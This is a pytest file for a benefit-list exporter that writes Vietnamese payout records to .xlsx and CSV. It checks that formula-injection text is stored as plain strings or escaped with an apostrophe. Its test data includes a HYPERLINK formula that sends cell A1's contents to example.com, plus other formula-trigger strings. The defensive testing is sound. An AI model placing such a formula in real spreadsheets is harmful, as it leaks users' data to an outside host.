"""Every cell a list export writes is data, never a formula: text typed as a string in .xlsx (kept exactly), text
a spreadsheet would evaluate marked with ``'`` in CSV — and both read back through the list reader as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.lists.reader import read_list
from app.lists.safe_cells import csv_field, unmark_csv_field
from app.lists.writer import write_list_csv, write_list_xlsx

HYPERLINK = '=HYPERLINK("http://example.com/?d="&A1, "Xã Yên Đức")'
HOSTILE = [HYPERLINK, "+84 912 345 678", "-1+2", "@SUM(A1:A9)", "\tThôn Đông", "#N/A", "=1+1"]
"""One text per way a spreadsheet turns text into a formula (or an error value)."""


def rows(names: list[str]) -> list[dict[str, object]]:
    return [{"record_code": f"QNH/LS-{n:05d}-TCM", "full_name": "Nguyễn Văn Đức", "commune": "Xã Yên Đức",
             "category": "LS", "regime": "Trợ cấp hằng tháng", "period": "2026-12", "amount": 2_789_000,
             "note": name, "village": name} for n, name in enumerate(names, start=1)]


@pytest.mark.parametrize("text", HOSTILE + ["\rThôn Tây"])
def test_the_csv_mark_goes_on_formula_text_only_and_comes_off_again(text: str) -> None:
    marked = csv_field(text)
    assert marked == ("'" + text if text[0] in "=+-@\t\r" else text)
    assert unmark_csv_field(marked) == text
    assert csv_field("Nguyễn Văn Đức") == "Nguyễn Văn Đức" and unmark_csv_field("'Anh") == "'Anh"


def test_xlsx_list_text_cells_are_strings_with_their_exact_text(tmp_path: Path) -> None:
    path = tmp_path / "ds.xlsx"
    write_list_xlsx(path, rows(HOSTILE), payout_period="2026-12", title=HYPERLINK)
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    texts = {cell.value: cell.data_type for cell in cells}
    for text in HOSTILE:
        assert texts.get(text) == "s", (text, texts.get(text))
    assert texts[HYPERLINK] == "s"  # the title too
    assert all(cell.data_type == "s" for cell in cells)
    parsed = read_list(path)  # the reader keeps free text with single spaces
    assert [line.note for line in parsed.lines] == [" ".join(text.split()) for text in HOSTILE]


def test_csv_list_marks_formula_text_and_reads_back_unmarked(tmp_path: Path) -> None:
    path = tmp_path / "ds.csv"
    write_list_csv(path, rows([*HOSTILE, "\rThôn Tây"]), payout_period="2026-12")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        records = list(csv.reader(handle))
    note = records[0].index("Ghi chú")
    written = [record[note] for record in records[1:]]
    assert written == ["'" + HYPERLINK, "'+84 912 345 678", "'-1+2", "'@SUM(A1:A9)", "'\tThôn Đông", "#N/A",
                       "'=1+1", "'\rThôn Tây"]
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for record in records for value in record)
    assert [line.note for line in read_list(path).lines] == [" ".join(text.split()) for text in [*HOSTILE, "Thôn Tây"]]
